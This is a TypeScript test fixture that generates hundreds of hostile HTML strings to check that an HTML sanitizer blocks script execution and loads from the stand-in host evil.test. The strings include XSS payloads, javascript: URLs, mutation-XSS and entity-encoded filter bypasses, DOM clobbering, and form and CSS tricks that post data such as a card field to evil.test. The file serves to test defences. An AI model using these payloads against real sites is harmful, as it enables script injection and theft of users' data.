/**
 * Operators' HTML as an attacker would write it. Code that runs writes `ran<n>` to the console, and content that loads asks evil.test; a page that shows these texts must do
 * neither. Ordered by what each tries, one per line.
 */
export const HOSTILE_HTML_HOST = 'evil.test';

type Trick = (js: string, url: string) => string;

/** Each text has a number, which appears in what it runs and in what it loads. */
export function hostileHtml(): string[] {
  const tricks = [...SCRIPTS, ...handlers(), ...schemes(), ...loads(), ...styles(), ...MUTATIONS, ...BROKEN, ...entities(), ...CLOBBERS, ...wrapped()];
  return [...new Set(tricks.map((trick, index) => trick(`console.warn(/ran${index}/)`, `//${HOSTILE_HTML_HOST}/${index}`)))];
}

const SCRIPTS: Trick[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<script type="module">${js}</script>`,
  (js) => `<script async defer>${js}</script>`,
  (_, url) => `<script src="${url}.js"></script>`,
  (_, url) => `<script src=${url}.js></script>`,
  (_, url) => `<script type=module src="https:${url}.js"></script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script\u000C>${js}</script\u000C>`,
  (js) => `<script/x>${js}</script/x>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"></script></svg>`,
  (_, url) => `<svg><script xlink:href="${url}.js"></script></svg>`,
  (js) => `<svg><script>${js}`,
  (js) => `<math><script>${js}</script></math>`,
  (js) => `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></body></foreignObject></svg>`,
  (js) => `<math><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></math>`,
  (js) => `<math><mtext><script>${js}</script></mtext></math>`,
  (js) => `<template><script>${js}</script></template><script>${js}</script>`,
  (js) => `<div><template shadowrootmode="open"><script>${js}</script><img src=x onerror=${js}></template></div>`,
  (_, url) => `<script type="importmap">{"imports":{"x":"https:${url}"}}</script><script type=module>import 'x'</script>`,
  (_, url) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https:${url}"]}]}</script>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  (js) => `<iframe srcdoc='<svg onload=${js}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<embed src="data:text/html,<script>${js}</script>">`,
  (js) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>">`,
  (js) => `<noscript><p title="</noscript><script>${js}</script>"></noscript>`,
  (js) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  (js) => `<xml><script>${js}</script></xml>`,
  (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  (js) => `<html><head><script>${js}</script></head><body onload=${js}></body></html>`,
];

const ON_ARRIVAL: [tag: string, event: string][] = [
  ['<img src=x EVENT>', 'onerror'],
  ['<image src=x EVENT>', 'onerror'],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" EVENT>', 'onload'],
  ['<img srcset=",,x" EVENT>', 'onerror'],
  ['<picture><source srcset="x"><img EVENT></picture>', 'onerror'],
  ['<input type=image src=x EVENT>', 'onerror'],
  ['<input autofocus EVENT>', 'onfocus'],
  ['<select autofocus EVENT></select>', 'onfocus'],
  ['<textarea autofocus EVENT></textarea>', 'onfocus'],
  ['<button autofocus EVENT>x</button>', 'onfocus'],
  ['<keygen autofocus EVENT>', 'onfocus'],
  ['<a href="#" autofocus tabindex=1 EVENT>x</a>', 'onfocusin'],
  ['<div contenteditable autofocus EVENT>x</div>', 'onfocus'],
  ['<body EVENT>', 'onload'],
  ['<body EVENT>', 'onpageshow'],
  ['<body EVENT>', 'onresize'],
  ['<frameset EVENT>', 'onload'],
  ['<iframe EVENT></iframe>', 'onload'],
  ['<object data="data:text/html,x" EVENT></object>', 'onload'],
  ['<object EVENT></object>', 'onerror'],
  ['<embed src="data:text/html,x" EVENT>', 'onload'],
  ['<link rel=stylesheet href="data:text/css," EVENT>', 'onload'],
  ['<link rel=stylesheet href="x" EVENT>', 'onerror'],
  ['<style EVENT>p{}</style>', 'onload'],
  ['<script src=x EVENT></script>', 'onerror'],
  ['<video src=x EVENT></video>', 'onerror'],
  ['<video EVENT><source src=x></video>', 'onloadstart'],
  ['<video><source EVENT src=x></video>', 'onerror'],
  ['<audio src=x EVENT></audio>', 'onerror'],
  ['<audio src=x EVENT></audio>', 'onloadstart'],
  ['<video autoplay src=x EVENT></video>', 'onsuspend'],
  ['<track EVENT src=x>', 'onerror'],
  ['<details open EVENT>x</details>', 'ontoggle'],
  ['<details open ontoggle EVENT>x</details>', 'onbeforetoggle'],
  ['<marquee EVENT>x</marquee>', 'onstart'],
  ['<marquee loop=1 width=0 EVENT>x</marquee>', 'onfinish'],
  ['<svg EVENT>', 'onload'],
  ['<svg><g EVENT></g></svg>', 'onload'],
  ['<svg><image href=x EVENT></svg>', 'onerror'],
  ['<svg><animate EVENT attributeName=x dur=1s></svg>', 'onbegin'],
  ['<svg><set EVENT attributeName=x></svg>', 'onbegin'],
  ['<svg><animate attributeName=x dur=1ms EVENT></svg>', 'onend'],
  ['<svg><discard EVENT></svg>', 'onbegin'],
  ['<svg><animateTransform EVENT attributeName=transform></svg>', 'onbegin'],
  ['<svg><foreignObject><img src=x EVENT></foreignObject></svg>', 'onerror'],
  ['<math><mi><img src=x EVENT></mi></math>', 'onerror'],
  ['<style>@keyframes k{}</style><b style="animation:k 1ms" EVENT>x</b>', 'onanimationstart'],
  ['<style>@keyframes k{}</style><b style="animation:k 1ms" EVENT>x</b>', 'onanimationend'],
  ['<style>b{transition:color 1ms}</style><b style="color:red" EVENT>x</b>', 'ontransitionrun'],
  ['<isindex type=image src=x EVENT>', 'onerror'],
  ['<bgsound src=x EVENT>', 'onerror'],
  ['<portal src=x EVENT></portal>', 'onload'],
  ['<dialog open EVENT>x</dialog>', 'ontoggle'],
  ['<div popover EVENT>x</div>', 'onbeforetoggle'],
  ['<p EVENT style="content-visibility:auto">x</p>', 'oncontentvisibilityautostatechange'],
  ['<x EVENT autofocus tabindex=1>x</x>', 'onfocus'],
  ['<img loading=eager src=x EVENT>', 'onloadend'],
];

const TOUCHED = ['onclick', 'ondblclick', 'onmousedown', 'onmouseover', 'onmouseenter', 'onpointerover', 'onpointerrawupdate', 'onwheel', 'onscroll'].concat([
  'onkeydown',
  'onpaste',
  'oncopy',
  'ondrag',
  'ondrop',
  'oncontextmenu',
  'onselectstart',
  'oninput',
  'onbeforeinput',
  'onsearch',
  'ongotpointercapture',
]);

function handlers(): Trick[] {
  const spelled: ((event: string, js: string) => string)[] = [
    (event, js) => `${event}=${js}`,
    (event, js) => `${event.toUpperCase()} = "${js}"`,
    (event, js) => `x="y"${event}='${js}'`,
  ];
  const arriving = ON_ARRIVAL.flatMap(([tag, event], index) =>
    [spelled[0]!, spelled[1 + (index % 2)]!].map(
      (spell): Trick =>
        (js) =>
          tag.replace('EVENT', spell(event, js)),
    ),
  );
  return [
    ...arriving,
    ...TOUCHED.map(
      (event): Trick =>
        (js) =>
          `<div ${event}="${js}" style="position:fixed;inset:0">x</div>`,
    ),
  ];
}

const RUNNING_URLS: Trick[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `javascript\n:${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#x6A;avascript:${js}`,
  (js) => `&#0000106avascript:${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `java&NewLine;script:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `javascript:/*https://venue.test*/${js}`,
  (js) => `javascript://venue.test/%0a${js}`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;charset=utf-8,&lt;svg onload=${js}&gt;`,
  (js) => `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${js}</x:script>`,
  (js) => `view-source:javascript:${js}`,
  (js) => `blob:javascript:${js}`,
  (js) => `feed:javascript:${js}`,
];

const URL_PLACES: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
];

const FURTHER_PLACES: ((url: string) => string)[] = [
  (url) => `<area href="${url}">`,
  (url) => `<base href="${url}"><a href="x">x</a>`,
  (url) => `<button formaction="${url}">x</button>`,
  (url) => `<input type=submit formaction="${url}">`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<svg><use href="${url}"></use></svg>`,
  (url) => `<svg><animate xlink:href=#a attributeName=href values="${url}"/><a id=a><text y=9>x</text></a></svg>`,
  (url) => `<link rel=import href="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<img dynsrc="${url}" lowsrc="${url}">`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<table background="${url}"></table>`,
  (url) => `<q cite="${url}">x</q>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<div style="background:url('${url}')">x</div>`,
  (url) => `<p style="behavior:url(${url});-moz-binding:url(${url})">x</p>`,
];

function schemes(): Trick[] {
  const places = URL_PLACES.flatMap((place) =>
    RUNNING_URLS.map(
      (made): Trick =>
        (js, url) =>
          place(made(js, url)),
    ),
  );
  return [
    ...places,
    ...FURTHER_PLACES.map(
      (place): Trick =>
        (js) =>
          place(`javascript:${js}`),
    ),
  ];
}

const LINK_KINDS = [
  'stylesheet',
  'preload" as="image',
  'prefetch',
  'preconnect',
  'dns-prefetch',
  'prerender',
  'icon',
  'manifest',
  'modulepreload',
  'alternate stylesheet',
].concat(['apple-touch-icon', 'import', 'next', 'search', 'pingback', 'compression-dictionary', 'expect']);

const LOADING: ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img src="https:${url}">`,
  (url) => `<img src='http:${url}' width=1>`,
  (url) => `<img src="/\\${url.slice(2)}">`,
  (url) => `<img src="\\\\${url.slice(2)}">`,
  (url) => `<img src="https:${url.slice(2)}">`,
  (url) => `<img src=" \t${url}">`,
  (url) => `<img srcset="${url} 1x">`,
  (url) => `<img src=/api/assets/stream/x.png srcset="${url} 2x">`,
  (url) => `<img src="${url}/api/assets/stream/a-0123456789abcdef.png">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<image src="${url}">`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
  (url) => `<video src="${url}" autoplay></video>`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<video><source src="${url}"></video>`,
  (url) => `<video><track default kind=captions src="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<bgsound src="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<object><param name=src value="${url}"></object>`,
  (url) => `<applet code=x archive="${url}"></applet>`,
  (url) => `<embed src="${url}">`,
  (url) => `<portal src="${url}"></portal>`,
  (url) => `<fencedframe src="${url}"></fencedframe>`,
  (url) => `<svg><image href="${url}"></svg>`,
  (url) => `<svg><image xlink:href="https:${url}"></svg>`,
  (url) => `<svg><use href="${url}#a"></use></svg>`,
  (url) => `<svg><filter id=f><feImage href="${url}"/></filter><rect filter=url(#f) width=9 height=9></svg>`,
  (url) => `<svg><rect fill="url(${url}#a)" width=9 height=9></svg>`,
  (url) => `<svg><style>@import '${url}';</style></svg>`,
  (url) => `<meta http-equiv="refresh" content="0;url=https:${url}">`,
  (url) => `<meta http-equiv=refresh content="0;${url}">`,
  (url) => `<meta http-equiv="link" content="<${url}>; rel=stylesheet">`,
  (url) => `<base href="https:${url}/"><img src=y>`,
  (url) => `<a href="https:${url}" ping="https:${url}" autofocus>x</a>`,
  (url) => `<form action="https:${url}" method=post><input name=card><button autofocus>Pay</button></form>`,
  (url) => `<form id=q></form><button form=q formaction="https:${url}" formmethod=post>Pay</button>`,
  (url) => `<form action="https:${url}"><input onfocus=this.form.submit() autofocus></form>`,
  (url) => `<template><img src="${url}"></template><img src="${url}">`,
  (url) => `<div><template shadowrootmode=open><img src="${url}"><slot></template></div>`,
  (url) => `<?xml-stylesheet href="${url}"?><p>x</p>`,
  (url) => `<html manifest="${url}">`,
  (url) => `<math><mglyph src="${url}"></mglyph></math>`,
  (url) => `<model src="${url}"></model>`,
  (url) => `<div lang="x" dir="ltr" background="${url}" src="${url}" href="${url}" data="${url}">x</div>`,
];

function loads(): Trick[] {
  return [
    ...LINK_KINDS.map(
      (kind): Trick =>
        (_, url) =>
          `<link rel="${kind}" href="https:${url}">`,
    ),
    ...LOADING.map(
      (load): Trick =>
        (_, url) =>
          load(url),
    ),
  ];
}

const PROPERTIES = [
  'background',
  'background-image',
  'list-style-image',
  'border-image',
  'cursor',
  'content',
  'mask-image',
  'filter',
  'shape-outside',
  'clip-path',
].concat(['--x', 'color']);

function styles(): Trick[] {
  const inAttribute = PROPERTIES.map(
    (property): Trick =>
      (_, url) =>
        `<p style="${property}:url(${url});display:list-item">x</p>`,
  );
  const inSheet: Trick[] = [
    (_, url) => `<style>@import "${url}";</style>`,
    (_, url) => `<style>@import url(https:${url});</style>`,
    (_, url) => `<style>*{background:url(${url})}</style>`,
    (_, url) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
    (_, url) => `<style>p::before{content:url(${url})}</style><p>x</p>`,
    (_, url) => `<style>input[value^="4"]{background:url(${url})}</style><input value=4>`,
    (_, url) => `<STYLE media=all>@\\69mport '${url}';</STYLE>`,
    (_, url) => `<style><!--</style><style>*{background:url(${url})}--></style>`,
    (_, url) => `<p style="background:u\\72l(${url})">x</p>`,
    (_, url) => `<p style="background:/**/url/**/(${url})">x</p>`,
    (_, url) => `<p style="background:image-set('${url}' 1x)">x</p>`,
    (_, url) => `<p style="background:-webkit-image-set(url(${url}) 1x)">x</p>`,
    (_, url) => `<p style="color:#fff;background:&#117;rl(${url})">x</p>`,
    (js) => `<p style="width:expression(${js})">x</p>`,
    (js) => `<p style="background:url(javascript:${js})">x</p>`,
    (_, url) => `<p style="color:red;}</style><style>*{background:url(${url})}">x</p>`,
  ];
  return [...inAttribute, ...inSheet];
}

/** Markup that means one thing to the cleaner and another to the browser that parses the result. */
const MUTATIONS: Trick[] = [
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<svg><style><a title="</style><img src=x onerror=${js}>"></style></svg>`,
  (js) => `<math><style><img title="</style><img src=x onerror=${js}>"></style></math>`,
  (js) => `<noscript><style></noscript><img src=x onerror=${js}></style>`,
  (js) => `<p title="</noscript><img src=x onerror=${js}>"><noscript>`,
  (js) => `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  (js) => `<title><p title="</title><img src=x onerror=${js}>"></title>`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  (js) => `<noembed><p title="</noembed><img src=x onerror=${js}>"></noembed>`,
  (js) => `<noframes><p title="</noframes><img src=x onerror=${js}>"></noframes>`,
  (js) => `<iframe><p title="</iframe><img src=x onerror=${js}>"></iframe>`,
  (js) => `<select><template><p title="</select><img src=x onerror=${js}>"></template></select>`,
  (js) => `<select><iframe></select><img src=x onerror=${js}>`,
  (js) => `<template><p title="</template><img src=x onerror=${js}>"></template>`,
  (js) => `<!-- > --><!-- ><img title="--><img src=x onerror=${js}>"> -->`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!---><img src=x onerror=${js}>-->`,
  (js) => `<!--x--!><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  (js) => `<svg><desc><![CDATA[</desc><img src=x onerror=${js}>]]></desc></svg>`,
  (js) => `<svg><title><![CDATA[</title><img src=x onerror=${js}>]]></svg>`,
  (js) => `<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror=${js}>--></annotation-xml></math>`,
  (js) => `<math><mi><table><mi><style></mi><img src=x onerror=${js}></style></table></math>`,
  (js) => `<svg><foreignObject><math><mi><style><!--</style><img src=x onerror=${js}>-->`,
  (js) => `<table><caption><svg><title><template><style></title><img src=x onerror=${js}>`,
  (js) => `<table><tr><td><math><mtext><script>${js}</script></table>`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<p><listing><plaintext-x title="</p><img src=x onerror=${js}>">`,
  (js) => `<a><table><a title="</a><img src=x onerror=${js}>"></table>`,
  (js) => `<b><p><b><svg><p title="</b></p><img src=x onerror=${js}>">`,
  (js) => `<img alt="\`\`onerror=${js} src=x">`,
  (js) => `<img alt="<x" title="/><img src=x onerror=${js}>">`,
  (js) => `<p lang="&quot;><img src=x onerror=${js}>">x</p>`,
  (js) => `<abbr title='"><img src=x onerror=${js}>'>x</abbr>`,
  (js) => `<a title="</a><svg onload=${js}>" href="https://venue.test">x</a>`,
  (js) => `<svg><a><style><p title="</style><svg/onload=${js}>"></p></style></a></svg>`,
  (js) => `<option><style></option></select><img src=x onerror=${js}></style>`,
  (js) => `<ruby><rtc><rt><svg><style><!--</style><img src=x onerror=${js}>`,
  (js) => `<frameset><noframes><img title="</noframes><img src=x onerror=${js}>"></frameset>`,
];

const BROKEN: Trick[] = [
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<<script>script>${js}<</script>/script>`,
  (js) => `<script<script>>${js}</script</script>>`,
  (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`.replaceAll('\u0000', ''),
  (js) => `<img src=x onerror=${js}`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `<img src=x onerror="${js}`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img\tsrc=x\tonerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror\n=\n${js}>`,
  (js) => `<img\u000Csrc=x\u000Conerror=${js}>`,
  (js) => `<img src=x onerror\u00A0=${js} onerror=${js}>`,
  (js) => `<img src=x:x onerror=${js}>`,
  (js) => `<img src='x'onerror='${js}'>`,
  (js) => `<img src=x"onerror=${js}>`,
  (js) => `<img """><script>${js}</script>">`,
  (js) => `<img src="x" title="a\\" onerror="${js}">`,
  (js) => `<IMG SRC=x OnErRoR=${js}>`,
  (js) => `< img src=x onerror=${js}>`,
  (js) => `<\u2028img src=x onerror=${js}>`,
  (js) => `＜script＞${js}＜/script＞<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><svg onload=${js}>`,
  (js) => `</p></div></body></html><script>${js}</script>`,
  (js) => `</iframe><script>${js}</script>`,
  (js) => `"></iframe><iframe srcdoc="<script>${js}</script>">`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</style></title></textarea><svg onload=${js}>`,
  (js) => `--><svg onload=${js}>`,
  (js) => `]]><svg onload=${js}>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg//////onload=${js}>`,
  (js) => `<svg x=">" onload=${js}>`,
  (js) => `<svg id=x;onload=${js} onload=${js}>`,
  (js) => `<svg><svg onload=${js}>`,
  (js) => `<svg></svg onload=${js}><svg onload=${js}>`,
  (js) => `<p/onmouseover="${js}"style=position:fixed;inset:0>x`,
  (js) => `<a href="x" / onclick="${js}">x</a>`,
  (js) => `<b <script>${js}</script>0`,
  (js) => `<b/><img src=x onerror=${js}><b/>`,
  (js) => `<custom-element onload=${js}><img src=x onerror=${js}></custom-element>`,
  (js) => `<img src=x onerror=${js}>${'<b>'.repeat(40)}`,
  (js) => `${'<div>'.repeat(40)}<img src=x onerror=${js}>`,
  (js) => `${'<table><tr><td>'.repeat(12)}<svg onload=${js}>`,
];

/** The same trick, written so that a text filter does not recognise it. */
function entities(): Trick[] {
  const decimal = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');
  const hex = (text: string) => Array.from(text, (letter) => `&#x${letter.codePointAt(0)!.toString(16)}`).join('');
  return [
    (js) => `<img src=x onerror="${decimal(js)}">`,
    (js) => `<img src=x onerror="${hex(js)}">`,
    (js) => `<a href="${decimal('javascript:')}${js}">x</a>`,
    (js) => `<a href="${hex('javascript:')};${js}">x</a>`,
    (js) => `<iframe src="${decimal(`javascript:${js}`)}"></iframe>`,
    (js) => `<svg><script>${decimal(js)}</script></svg>`,
    (js) => `<svg><script>&#99;onsole.warn(1);${js}</script></svg>`,
    (js) => `&lt;script&gt;${js}&lt;/script&gt;<script>${js}</script>`,
    (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
    (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
    (js) => `&lt;img src=x onerror=${js}&gt;`,
    (js) => `&ltimg src=x onerror=${js}&gt`,
    (js) => `&LT;svg onload=${js}&GT;`,
    (js) => `%3Cscript%3E${js}%3C/script%3E`,
    (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
    (js) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
    (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-<meta charset="utf-7">`,
    (js) => `<iframe srcdoc="${decimal(`<script>${js}</script>`)}"></iframe>`,
    (js) => `<p title="${decimal(`"><script>${js}</script>`)}">x</p>`,
    (js) => `<<img src=x onerror=${js}>&lt;a &lt; b`,
    (_, url) => `<img src="${decimal(url)}">`,
    (_, url) => `<p style="${decimal(`background:url(${url})`)}">x</p>`,
  ];
}

/** Names that a page's own code might look up. */
const CLOBBERS: Trick[] = [
  (js) => `<a id=root href="javascript:${js}">x</a><div id=bootstrap>{}</div>`,
  (js) => `<form name=location action="javascript:${js}"><input name=href></form>`,
  (js) => `<img name=cookie src=x onerror=${js}><img name=currentScript>`,
  (js) => `<script id=bootstrap type=application/json>{"x":1}</script><img src=x onerror=${js}>`,
  (js) => `</script><script id="bootstrap">${js}</script>`,
  (js) => `{{constructor.constructor('${js}')()}}<script>${js}</script>`,
  (js) => `\${${js}}<script>${js}</script>`,
  (js) => `<p is="x-y" slot=a part=b onclick=${js}>x</p><x-y><script>${js}</script></x-y>`,
];

/** Each of a few tricks inside each element that changes how its contents are parsed. */
function wrapped(): Trick[] {
  const inside: Trick[] = [(js) => `<img src=x onerror=${js}>`, (js) => `<svg onload=${js}>`, (_, url) => `<link rel=stylesheet href="${url}">`];
  const around = [
    'b',
    'table',
    'select',
    'textarea',
    'title',
    'noscript',
    'iframe',
    'svg',
    'math',
    'template',
    'xmp',
    'plaintext',
    'button',
    'dialog',
    'object',
    'style',
  ];
  return around.flatMap((tag) =>
    inside.map(
      (trick): Trick =>
        (js, url) =>
          `<${tag}>${trick(js, url)}</${tag}>${trick(js, url)}`,
    ),
  );
}
